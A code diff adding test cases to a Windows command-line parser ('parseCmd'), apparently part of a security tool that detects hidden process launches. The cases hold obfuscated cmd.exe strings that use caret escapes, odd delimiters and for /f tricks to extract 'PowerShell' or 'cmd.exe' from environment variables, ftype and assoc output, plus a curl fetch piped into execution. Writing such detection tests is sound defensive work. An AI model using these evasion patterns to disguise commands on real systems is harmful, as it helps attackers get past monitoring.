@@ -30,6 +30,22 @@ describe("parseCmd", () => {
     ["for /f %a in ('dir /b') do start %a", ["dir /b", "start %a"]],
     ["for /f %a in ('echo calc x') do %a /q", ["echo calc x", "calc /q"]],
     ["for /f \"tokens=1,2 delims=;\" %a in ('echo ca^;lc') do start %a%b", ["echo ca;lc", "start calc"]],
+    ["for /f \"tokens=4 delims=s\\\" %a in ('set^|findstr PSM') do %a -c x", ["set", "findstr PSM", "PowerShell -c x"]],
+    ["for /f \"tokens=2 delims=f=\" %a in ('assoc .cmd') do %a /c x", ["assoc .cmd", "cmd /c x"]],
+    [
+      'for /f "tokens=2 delims=.CM" %a in (\'ftype ^| find /i "lcons"\') do %a',
+      ["ftype", 'find /i "lcons"', "PowerShell"],
+    ],
+    [
+      "for /f \"tokens=2 delims==\" %a in ('set ComS') do call %a /c x",
+      ["set ComS", "call C:\\Windows\\System32\\cmd.exe /c x"],
+    ],
+    ["for /f %a in ('set ^| more') do start %a", ["set", "more", "start %a"]],
+    [
+      ",;,f^Or , /^f ; \"delims=s\\ tokens=4\" %a , I^n ('S^et ^| ,;fI^ndStr ,;PSM') , d^o %a",
+      ["Set", "fIndStr ,;PSM", "PowerShell"],
+    ],
+    ["i^f 1==1 calc", ["calc"]],
     ["for /f %a in ('echo %x%') do start %a", ["echo %x%", "start %a"]],
     ["for /f %i in ('curl http://h/x') do @%i", ["curl http://h/x", "cmd"]],
     ["for /f \"tokens=*\" %%i in ('x.exe') do cmd /c %%i", ["x.exe", "cmd"]],
